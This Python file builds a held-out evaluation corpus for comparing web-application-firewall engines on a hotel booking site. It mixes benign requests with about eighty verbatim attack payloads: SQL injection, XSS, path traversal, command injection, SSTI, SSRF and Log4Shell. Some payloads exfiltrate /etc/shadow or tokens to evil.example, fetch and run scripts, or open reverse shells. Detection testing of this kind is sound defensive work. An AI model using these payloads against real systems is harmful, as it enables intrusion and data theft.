# ruff: noqa: E501  (payloads are kept verbatim, one per line)
"""A held-out corpus, written after both engines' rules were frozen and never used to tune them.

The main corpora (``attacks.jsonl``, ``benign.jsonl``) were used while writing the fallback's
rules and the CRS supplement, so rates measured on them flatter those rules. These requests
were written afterwards, in different shapes (other databases, other encodings, another kind
of site), to show what an unseen request looks like to each engine.
"""

from __future__ import annotations

from typing import Any

from corpus_common import (
    BROWSERS,
    CLIENTS,
    UA,
    api_headers,
    browser_headers,
    client_ip,
    form,
    jdump,
    qs,
    record,
)

HOST = "booking.example.travel"

ATTACKS: list[tuple[str, str, str]] = [
    # (category, context, payload)
    ("sqli", "query", "1' ORDER BY 3--+"),
    ("sqli", "form", "admin')-- -"),
    ("sqli", "query", "1;EXEC master..xp_cmdshell 'ping 203.0.113.9'--"),
    ("sqli", "json", "' || UTL_HTTP.REQUEST('http://evil.example/'||(SELECT user FROM dual)) --"),
    (
        "sqli",
        "query",
        "10 AND (SELECT 4471 FROM(SELECT COUNT(*),CONCAT(0x71,0x7a)x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
    ),
    ("sqli", "form", "x' OR 1 GROUP BY CONCAT_WS(0x3a,VERSION(),FLOOR(RAND(0)*2)) HAVING MIN(0)#"),
    ("sqli", "cookie", "3' AND 8561=8561 AND 'Dcvx'='Dcvx"),
    ("sqli", "query", "-7 UNION SELECT ALL table_schema,table_name FROM information_schema.tables"),
    ("sqli", "json", "1 or pg_sleep(3)--"),
    ("sqli", "query", "1' WAITFOR DELAY '00:00:07'--"),
    ("sqli", "form", "'; exec master..xp_dirtree '//evil.example/a'--"),
    ("sqli", "query", "2 AND 1=(SELECT TOP 1 name FROM sysobjects WHERE xtype='U')"),
    ("sqli", "query", "%31%27%20%4f%52%20%27%31%27%3d%27%31"),
    ("sqli", "json", "abc' UNION SELECT NULL,NULL,@@hostname-- -"),
    ("sqli", "query", "1 AND ELT(1,SLEEP(4))"),
    ("sqli", "cookie", "1' oR '8'='8"),
    ("sqli", "form", "') OR 1=1 LIMIT 1;#"),
    ("sqli", "query", "1 OR 'a' LIKE 'a'"),
    ("xss", "query", "<svg><set attributeName=onload to=alert(1)>"),
    ("xss", "form", "<a autofocus onfocusin=alert(1) href=#>x</a>"),
    ("xss", "query", "<img src=x onerror=top['al'+'ert'](1)>"),
    ("xss", "json", "<iframe src=javascript:alert`1`>"),
    ("xss", "query", "\"'><img src=x onerror=import('//evil.example/x.js')>"),
    ("xss", "form", "<svg><foreignObject><body onload=alert(1)>"),
    (
        "xss",
        "query",
        "<script>fetch('//evil.example',{method:'POST',body:localStorage.token})</script>",
    ),
    ("xss", "query", "%3Cdetails%20open%20ontoggle%3Dprint()%3E"),
    ("xss", "json", "<img src=1 onerror=\"eval(atob('YWxlcnQoMSk='))\">"),
    ("xss", "form", "javascript&colon;alert(1)"),
    ("xss", "query", "<video src=1 onerror=alert(1)>"),
    ("xss", "cookie", '"><svg onload=confirm(document.domain)>'),
    ("xss", "query", "<object type=text/html data=//evil.example/x></object>"),
    ("xss", "json", "<math href=javascript:alert(1)>click</math>"),
    ("lfi", "query", "/../../../../../../boot.ini"),
    ("lfi", "query", "..%252f..%252f..%252fetc/passwd"),
    ("lfi", "form", "/etc/passwd"),
    ("lfi", "json", "../../../../../../root/.bash_history"),
    ("lfi", "query", "....\\/....\\/....\\/etc/hosts"),
    ("lfi", "query", "php://filter/read=string.rot13/resource=config.php"),
    ("lfi", "form", "/proc/1/environ"),
    ("lfi", "json", "C:/Windows/System32/drivers/etc/hosts"),
    ("lfi", "query", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
    ("lfi", "query", "file:///c:/inetpub/wwwroot/web.config"),
    ("rce", "query", ";nc -lvp 4444 -e /bin/bash"),
    ("rce", "form", "| curl -X POST -d @/etc/shadow https://evil.example/c"),
    ("rce", "json", "$(id>/tmp/x)"),
    ("rce", "query", "& dir c:\\users"),
    ("rce", "query", "%0a/bin/cat%20/etc/passwd"),
    ("rce", "form", "`uname -a`"),
    ("rce", "json", "x;wget -O- http://198.51.100.4/i.sh|bash"),
    ("rce", "query", "|| whoami /all"),
    ("rce", "form", "1;python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"),
    ("rce", "query", "$(bash -c 'exec 5<>/dev/tcp/203.0.113.9/80')"),
    ("rce", "json", "; /usr/bin/env"),
    ("rce", "query", "a && powershell -enc SQBFAFgA"),
    ("rce", "form", ";ls${IFS}-la${IFS}/"),
    ("rce", "query", "\nid\n"),
    ("php", "form", "<?php passthru($_GET['x']); ?>"),
    ("php", "query", "shell_exec('whoami')"),
    ("php", "json", 'O:4:"User":2:{s:4:"name";s:5:"admin";s:7:"isAdmin";b:1;}'),
    ("php", "query", "data://text/plain,<?php phpinfo();?>"),
    ("java", "query", "${jndi:ldap://x${hostName}.evil.example/a}"),
    ("java", "json", "${${lower:jn}${lower:di}:ldap://evil.example/z}"),
    ("java", "form", "class.module.classLoader.URLs[0]=0"),
    (
        "java",
        "query",
        "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())",
    ),
    ("ssti", "query", "{{ ''.__class__.__base__.__subclasses__() }}"),
    ("ssti", "form", "${{7*'7'}}"),
    ("ssti", "json", "{{cycler.__init__.__globals__.os.popen('id').read()}}"),
    ("ssti", "query", "@(1+2)"),
    ("ssti", "form", "{php}echo `id`;{/php}"),
    ("rfi-ssrf", "query", "http://169.254.169.254/latest/user-data"),
    ("rfi-ssrf", "json", "http://127.0.0.1:9200/_cat/indices"),
    ("rfi-ssrf", "form", "gopher://localhost:25/_HELO%20evil"),
    ("rfi-ssrf", "query", "http://localhost/server-status"),
    ("rfi-ssrf", "json", "http://[0:0:0:0:0:ffff:127.0.0.1]/"),
    ("rfi-ssrf", "query", "https://203.0.113.77/include.txt?"),
    ("nosqli", "json-raw", '{"login": "admin", "pass": {"$ne": "x"}}'),
    ("nosqli", "query-raw", "login=admin&pass[$gt]="),
    ("nosqli", "json-raw", '{"q": {"$where": "function(){return true}"}}'),
]
HEADER_ATTACKS: list[tuple[str, str, str]] = [
    ("java", "X-Client-IP", "${jndi:ldap://203.0.113.9:1389/Exploit}"),
    ("rce", "User-Agent", "() { :;}; /bin/bash -c 'nc 203.0.113.9 4444 -e /bin/sh'"),
    ("scanner", "User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)"),
    (
        "scanner",
        "User-Agent",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ),
    ("scanner", "User-Agent", "Nikto/2.5.0"),
    ("scanner", "User-Agent", "gobuster/3.5"),
    ("sqli", "Referer", "http://x/' AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)--"),
    ("xss", "Referer", "javascript:alert(document.cookie)"),
]
PROTOCOL: list[dict[str, Any]] = [
    {"method": "TRACE", "path": "/booking"},
    {"method": "MOVE", "path": "/files/a.txt"},
    {
        "method": "POST",
        "path": "/api/pay",
        "headers": [("Transfer-Encoding", "chunked"), ("Content-Length", "3")],
        "body": "x=1",
        "ctype": "application/x-www-form-urlencoded",
    },
    {"method": "GET", "path": "/.git/index"},
    {"method": "GET", "path": "/.env.local"},
    {"method": "GET", "path": "/backup/db_2023.sql"},
    {"method": "GET", "path": "/lang", "query": "set=en%0d%0aLocation:%20https://evil.example"},
]

BENIGN_SEARCHES = [
    "hotels in lisbon near the sea",
    "cheap flights berlin -> rome",
    "family room (2 adults + 2 kids)",
    "ski chalet with sauna",
    "best time to visit kyoto?",
    "nice, france",
    "new york - 3 nights",
    "dog-friendly b&b",
    "São Paulo",
    "Reykjavík northern lights tour",
    "hotel 'la perla'",
    "what's included in half board",
    "cancel booking #55102",
    "pool & spa",
    "select dates",
    "union square hotels",
    "drop-off at airport",
    "1 bedroom apt, sleeps 4",
    "Köln Dom",
    "Marrakech riad",
    "wheelchair accessible",
    "late check-out?",
    "bangkok > chiang mai bus",
]
BENIGN_MESSAGES = [
    "We'll arrive around 11pm — is late check-in OK?",
    "Could we get a cot for our 1-year-old? Thanks!",
    "Our flight was cancelled; can I move the booking to 12/05 - 15/05?",
    "Is breakfast gluten-free friendly? My wife has coeliac disease.",
    "Room 204 had no hot water. Please note for future guests.",
    "Parking: do you have space for a van (2.4m high)?",
    "Ich hätte gerne ein ruhiges Zimmer, bitte.",
    "Bringing a small dog (8kg) -- any extra fee?",
    "The confirmation e-mail says 'pending' for 3 days now. Is everything OK?",
    "Please split the invoice: 50% company / 50% personal.",
    "Any vegan options at dinner? :)",
    "Thanks for the lovely stay!!! We'll be back next year.",
]


def build_holdout() -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    attacks: list[dict[str, Any]] = []
    for i, (category, context, payload) in enumerate(ATTACKS):
        rid = f"holdout-{category}-{i:03d}"
        ip = client_ip(i + 1000, True)
        if context == "query":
            attacks.append(
                record(
                    rid,
                    "attack",
                    category,
                    "GET",
                    "/hotels/search",
                    query=qs([("dest", payload)]) if "%" not in payload else f"dest={payload}",
                    headers=browser_headers(HOST, BROWSERS[i % 8], i),
                    client_ip=ip,
                )
            )
        elif context == "form":
            attacks.append(
                record(
                    rid,
                    "attack",
                    category,
                    "POST",
                    "/booking/guest",
                    body=form([("guest_name", payload), ("nights", "2")]),
                    content_type="application/x-www-form-urlencoded",
                    headers=browser_headers(
                        HOST, BROWSERS[(i + 1) % 8], i, referer=f"https://{HOST}/booking"
                    ),
                    client_ip=ip,
                )
            )
        elif context == "json":
            attacks.append(
                record(
                    rid,
                    "attack",
                    category,
                    "POST",
                    "/api/bookings",
                    body=jdump({"guest": {"name": payload, "adults": 2}}),
                    content_type="application/json",
                    headers=api_headers(HOST, CLIENTS[i % 10]),
                    client_ip=ip,
                )
            )
        elif context == "cookie":
            attacks.append(
                record(
                    rid,
                    "attack",
                    category,
                    "GET",
                    "/my/bookings",
                    headers=browser_headers(
                        HOST, BROWSERS[i % 8], i, cookie=f"pref={qs([('', payload)])[1:]}"
                    ),
                    client_ip=ip,
                )
            )
        elif context == "json-raw":
            attacks.append(
                record(
                    rid,
                    "attack",
                    category,
                    "POST",
                    "/api/login",
                    body=payload,
                    content_type="application/json",
                    headers=api_headers(HOST, CLIENTS[i % 10]),
                    client_ip=ip,
                )
            )
        else:
            attacks.append(
                record(
                    rid,
                    "attack",
                    category,
                    "GET",
                    "/api/login",
                    query=payload,
                    headers=api_headers(HOST, CLIENTS[i % 10]),
                    client_ip=ip,
                )
            )
    for i, (category, name, value) in enumerate(HEADER_ATTACKS):
        headers = [(k, v) for k, v in browser_headers(HOST, BROWSERS[i % 8], i) if k != name]
        attacks.append(
            record(
                f"holdout-{category}-h{i:02d}",
                "attack",
                category,
                "GET",
                "/",
                headers=[*headers, (name, value)],
                client_ip=client_ip(i, True),
            )
        )
    for i, spec in enumerate(PROTOCOL):
        headers = browser_headers(HOST, BROWSERS[i % 8], i) + spec.get("headers", [])
        attacks.append(
            record(
                f"holdout-protocol-{i:02d}",
                "attack",
                "protocol",
                spec["method"],
                spec["path"],
                query=spec.get("query", ""),
                headers=headers,
                body=spec.get("body", b""),
                content_type=spec.get("ctype"),
                add_length=False,
                client_ip=client_ip(i, True),
            )
        )
    benign: list[dict[str, Any]] = []
    for i, term in enumerate(BENIGN_SEARCHES):
        query = qs(
            [
                ("dest", term),
                ("checkin", f"2024-0{i % 9 + 1}-1{i % 9}"),
                ("nights", str(i % 7 + 1)),
                ("guests", str(i % 4 + 1)),
            ]
        )
        benign.append(
            record(
                f"holdout-benign-search-{i:03d}",
                "benign",
                "search",
                "GET",
                "/hotels/search",
                query=query,
                headers=browser_headers(HOST, BROWSERS[i % 8], i, referer=f"https://{HOST}/"),
                client_ip=client_ip(i, False),
            )
        )
    for i, msg in enumerate(BENIGN_MESSAGES):
        body = form(
            [
                ("booking_ref", f"BK{77000 + i}"),
                ("message", msg),
                ("email", f"guest{i}@example.org"),
            ]
        )
        benign.append(
            record(
                f"holdout-benign-message-{i:03d}",
                "benign",
                "message",
                "POST",
                "/booking/message",
                body=body,
                content_type="application/x-www-form-urlencoded",
                headers=browser_headers(
                    HOST, BROWSERS[(i + 2) % 8], i, referer=f"https://{HOST}/my/bookings"
                ),
                client_ip=client_ip(i, False),
            )
        )
    for i in range(40):
        doc = {
            "hotel_id": 1000 + i,
            "room_type": ["double", "twin", "suite", "family"][i % 4],
            "checkin": f"2024-07-{i % 28 + 1:02d}",
            "nights": i % 6 + 1,
            "guest": {
                "name": ["Ana Sousa", "Tom O'Neil", "Jürgen Weiß", "Yuki Tanaka"][i % 4],
                "email": f"g{i}@example.com",
                "phone": "+351 912 345 678",
            },
            "extras": [["breakfast"], ["parking", "late_checkout"], [], ["crib"]][i % 4],
            "notes": BENIGN_MESSAGES[i % len(BENIGN_MESSAGES)] if i % 3 == 0 else "",
            "price": {"amount": 129.5 + i, "currency": "EUR"},
        }
        benign.append(
            record(
                f"holdout-benign-api-{i:03d}",
                "benign",
                "api",
                ["POST", "PUT"][i % 2],
                "/api/bookings" if i % 2 == 0 else f"/api/bookings/BK{77000 + i}",
                body=jdump(doc),
                content_type="application/json",
                headers=api_headers(HOST, CLIENTS[i % 10], token=f"tok_{i:04d}abcdef0123456789"),
                client_ip=client_ip(i, False),
            )
        )
    for i in range(30):
        path = [
            "/",
            "/hotels/lisbon",
            "/deals",
            "/static/app.js",
            "/img/rooms/204.jpg",
            "/help/cancellation-policy",
        ][i % 6]
        benign.append(
            record(
                f"holdout-benign-page-{i:03d}",
                "benign",
                "page",
                "GET",
                path,
                headers=browser_headers(
                    HOST, BROWSERS[i % 8], i, cookie=f"sid=s{i:06d}; currency=EUR"
                ),
                client_ip=client_ip(i, False),
            )
        )
    for i in range(10):
        benign.append(
            record(
                f"holdout-benign-health-{i:03d}",
                "benign",
                "health",
                "GET",
                "/healthz",
                headers=[("Host", HOST), ("User-Agent", UA["kube"])],
                client_ip="10.0.0.2",
            )
        )
    return attacks, benign
